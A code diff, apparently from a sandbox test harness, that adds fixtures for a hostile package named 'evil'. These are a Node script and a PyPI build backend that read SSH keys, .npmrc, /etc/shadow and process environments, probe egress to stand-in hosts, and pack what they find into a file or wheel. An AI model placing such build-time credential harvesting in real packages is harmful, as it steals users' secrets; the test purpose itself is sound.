@@ -23,6 +23,48 @@ const end = word => { seen.port = word; fs.writeFileSync("seen.json", JSON.strin
 socket.on("connect", () => end("open"));
 socket.on("error", error => end(error.code));
 """
+# A script that a person has allowed: it tries every way out that it knows, and every place where something of theirs might be.
+WORM = """
+const dns = require("dns"), fs = require("fs"), net = require("net");
+const [,, home, port] = process.argv, seen = {read: {}, reached: {}, text: JSON.stringify(process.env)};
+for (const path of [home + "/id_rsa", home + "/.npmrc", "/etc/shadow", `/proc/${process.ppid}/environ`, "/proc/1/environ"])
+  try { seen.text += fs.readFileSync(path); seen.read[path] = "read"; } catch (error) { seen.read[path] = error.code; }
+const reach = (host, port) => new Promise(done => {
+  const end = word => { seen.reached[host] = word; done(); };
+  net.connect({host, port}).on("connect", () => end("open")).on("error", error => end(error.code));
+});
+const ask = name => new Promise(done => dns.resolve(name, error => { seen.reached[name] = error ? error.code : "known"; done(); }));
+Promise.all([reach("127.0.0.2", port), reach("192.0.2.7", 443), reach("elsewhere.example", 443), ask("secret.elsewhere.example")])
+  .then(() => { fs.writeFileSync("seen.json", JSON.stringify(seen)); process.exit(0); });
+"""
+# The same at the build of a package of PyPI, which then has what it saw in its wheel.
+BACKEND = """
+import errno, json, os, shutil, socket, zipfile
+HOME, PORT, WHEEL = {home!r}, {port}, {wheel!r}
+def attack():
+    seen = {{"read": {{}}, "reached": {{}}, "text": json.dumps(dict(os.environ))}}
+    for path in (HOME + "/id_rsa", HOME + "/.npmrc", "/etc/shadow", f"/proc/{{os.getppid()}}/environ", "/proc/1/environ"):
+        try:
+            with open(path, encoding="utf-8", errors="replace") as file:
+                seen["text"] += file.read()
+            seen["read"][path] = "read"
+        except OSError as error:
+            seen["read"][path] = errno.errorcode[error.errno]
+    for host, port in (("127.0.0.2", PORT), ("192.0.2.7", 443), ("elsewhere.example", 443), ("secret.elsewhere.example", 443)):
+        try:
+            socket.create_connection((host, port), 5).close()
+            seen["reached"][host] = "open"
+        except socket.gaierror:
+            seen["reached"][host] = "ENOTFOUND"
+        except OSError as error:
+            seen["reached"][host] = errno.errorcode.get(error.errno, str(error))
+    return json.dumps(seen)
+def build_wheel(directory, *_):
+    shutil.copy(WHEEL, directory)
+    with zipfile.ZipFile(os.path.join(directory, WHEEL), "a") as archive:
+        archive.writestr("seen.json", attack())
+    return WHEEL
+"""
 SERVER = """#!/usr/bin/env node
 require("readline").createInterface({input: process.stdin}).on("line", line => {
   const {id, method} = JSON.parse(line);
@@ -141,6 +183,16 @@ class Registry:
     def publish_pypi(self, version, more=None):
         """The package `evil` of PyPI; `more`: files that it puts elsewhere."""
         self.files[f"/files/evil-{version}-py3-none-any.whl"] = wheel("evil", version, PYTHON_SERVER, more or {})
+
+    def publish_source(self, version):
+        """The same as it is before it was built."""
+        name = f"evil-{version}-py3-none-any.whl"
+        self.files[f"/files/evil-{version}.tar.gz"] = tarball({
+            "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n',
+            "PKG-INFO": f"Metadata-Version: 2.1\nName: evil\nVersion: {version}\n",
+            "backend.py": BACKEND.format(home=str(self.home), port=self.script_port, wheel=name),
+            name: wheel("evil", version, PYTHON_SERVER, {}),
+        }, f"evil-{version}")
 
     def answer(self, path):
         """Type and body."""
